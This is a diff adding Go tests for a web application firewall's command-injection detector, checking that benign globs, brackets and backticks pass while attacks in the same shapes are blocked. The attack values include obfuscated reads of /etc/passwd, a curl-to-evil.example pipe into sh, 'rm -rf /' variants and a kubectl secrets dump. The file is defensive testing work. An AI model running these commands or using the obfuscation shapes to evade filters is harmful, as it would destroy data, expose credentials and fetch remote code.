@@ -1,0 +1,103 @@
+package injection
+
+import (
+	"encoding/json"
+	"net/url"
+	"testing"
+
+	"github.com/edgeward/edgeward/policies"
+)
+
+// cmdiShape is one precision change of the command-injection detector (issue 15, benign false
+// positives): benign values of the shape it lets pass, read by the shell's grammar, and attacks
+// put inside that same shape, which must still be blocked.
+type cmdiShape struct {
+	name    string
+	benign  []string
+	attacks []string
+}
+
+var cmdiShapes = []cmdiShape{
+	{
+		// A glob in a command position names a command only if it can expand to a program.
+		name:   "glob whose wildcards are in directory names only",
+		benign: []string{"/logs-*/_search", "/metrics-*-2024.*/_count", "/app-*/config"},
+		attacks: []string{"/logs-*/_search;/???/??t /???/p??s??", "/logs-*/x|/bin/c?t /etc/passwd",
+			"/???/??t /???/p??s??", "/b??/cat /etc/passwd", "/logs-*/_search;cat /et?/pas?wd",
+			"/[e//]tc/[p//]asswd", "cat /logs-*/../../et?/passwd"},
+	},
+	{
+		// A "[" that no "]" closes is a literal character, not a bracket expression.
+		name:    "unclosed bracket in a path",
+		benign:  []string{"/rest/pug/compound/name/[Cu(NH3)4]SO4/property/MolecularFormula/JSON", "/name/[Fe(CN)6]K3/json"},
+		attacks: []string{"/name/[Cu(NH3)4]SO4;/???/[c]at /etc/passwd", "/name/[Cu(NH3)4]SO4|cat /et[c]/passwd", "/???/[c]at /etc/passwd"},
+	},
+	{
+		// The last backtick of a value opens nothing that runs.
+		name: "backtick that nothing closes",
+		benign: []string{"Use -v: `awk -v limit=\"$limit\" '$3 > limit { print $1 }'",
+			"Postmortem: the nightly cleanup script ran `rm -rf /data/tmp",
+			"## Disk full on db-replica\n1. `ssh db-re"},
+		attacks: []string{"Use -v: `id` and `awk -v limit=\"$limit\" '$3 > limit { print $1 }'",
+			"Use -v: `curl http://evil.example/x | sh` `awk", "ran `rm -rf /data/tmp` then `",
+			"## Disk full\n1. `cat /etc/passwd` `ssh db-re", "x `kubectl get secrets -A -o yaml` y `",
+			"ran `rm -rf /` `"},
+	},
+	{
+		// rm -rf / counts where the shell reads rm as a command's name, not inside a quoted
+		// argument of a query language's line filter.
+		name: "rm -rf inside a quoted argument",
+		benign: []string{"{service_name=\"cron\"} |= \"rm -rf /tmp/build-\" | label_format who=`{{.user}}`",
+			"{job=\"ci\"} |= \"rm -rf /var/cache\"", `{app="cron"} != "rm -f /tmp/lock"`},
+		attacks: []string{"{job=\"ci\"} |= \"x\"; rm -rf /var/cache", "{job=\"ci\"} |= \"$(rm -rf /var/cache)\"",
+			"{job=\"ci\"} |= \"`rm -rf /var/cache`\"", "\"; rm -rf / #", "rm -rf /", "sudo rm -rf /var/www",
+			"x' && rm -rf /home '", "sh -c \"rm -rf /srv\"", "find /tmp -exec rm -rf / {} +"},
+	},
+}
+
+// TestCmdiShapesDetector holds each shape to the detector at the default sensitivity.
+func TestCmdiShapesDetector(t *testing.T) {
+	for _, sh := range cmdiShapes {
+		for _, v := range sh.benign {
+			if cmdiAt(v, true, 2) {
+				t.Errorf("%s: benign %q flagged", sh.name, v)
+			}
+		}
+		for _, v := range sh.attacks {
+			if !cmdiAt(v, true, 2) {
+				t.Errorf("%s: attack %q not flagged", sh.name, v)
+			}
+		}
+	}
+}
+
+// TestCmdiShapesWrapped sends every value of each shape through the engine with
+// envoy/examples/waf.json, in a JSON body, a form body, a query string and (for values that are
+// paths) as the request path: the benign ones pass, the attacks inside the shape are blocked.
+func TestCmdiShapesWrapped(t *testing.T) {
+	e := wafEngine(t)
+	for _, sh := range cmdiShapes {
+		for _, group := range []struct {
+			vals  []string
+			block bool
+		}{{sh.benign, false}, {sh.attacks, true}} {
+			for _, v := range group.vals {
+				j, _ := json.Marshal(map[string]any{"note": map[string]string{"text": v}})
+				reqs := []injReq{
+					{method: "POST", path: "/api/notes", ct: "application/json", body: string(j)},
+					{method: "POST", path: "/api/notes", ct: "application/x-www-form-urlencoded", body: "text=" + url.QueryEscape(v)},
+					{method: "GET", path: "/search?q=" + url.QueryEscape(v)},
+				}
+				if v[0] == '/' {
+					reqs = append(reqs, injReq{method: "GET", path: (&url.URL{Path: v}).EscapedPath()})
+				}
+				for _, r := range reqs {
+					d, _ := runInj(e, r)
+					if blocked := d.Action == policies.Deny && d.Status == 403; blocked != group.block {
+						t.Errorf("%s: %s %s (%s) %q: blocked=%v, want %v", sh.name, r.method, r.path, r.ct, v, blocked, group.block)
+					}
+				}
+			}
+		}
+	}
+}
